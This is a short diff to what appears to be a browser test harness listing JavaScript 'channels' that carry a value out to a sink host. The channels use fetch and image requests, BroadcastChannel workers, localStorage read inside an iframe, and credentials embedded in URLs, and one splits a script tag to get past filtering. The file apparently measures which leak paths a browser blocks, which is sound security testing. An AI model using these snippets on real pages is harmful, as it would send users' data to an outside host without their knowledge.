@@ -73,10 +73,10 @@ CHANNELS = (
       new Image().src = u("message", e.data); };
       c.port2.postMessage(v)"""),
     Channel("broadcast", """const w = new Worker(blob(`new BroadcastChannel("b").onmessage = (e) =>
-      fetch("${TO}/sink/broadcast?d=" + e.data, {mode: "no-cors"})`)); await rest(400);
+      fetch("${TO}/sink/broadcast?d=" + e.data, {mode: "no-cors"})`)); await rest(1500);
       new BroadcastChannel("b").postMessage(v)"""),
-    Channel("local-storage-frame", """localStorage.v = v; add("iframe", {srcdoc:
-      `<script>new Image().src = "${TO}/sink/stored?d=" + localStorage.v</scr` + "ipt>"})"""),
+    Channel("local-storage-frame", """localStorage["v" + HOST] = v; add("iframe", {srcdoc:
+      `<script>new Image().src = "${TO}/sink/stored?d=" + localStorage["v${HOST}"]</scr` + "ipt>"})"""),
     Channel("basic-auth-address", 'add("img", {src: `${TO.replace("//", `//${v}:p@`)}/auth/x`})',
             unseen="the browser takes no names in addresses of subresources"),
     Channel("basic-auth-page", 'location = `${TO.replace("//", `//${v}:p@`)}/auth/x`'),
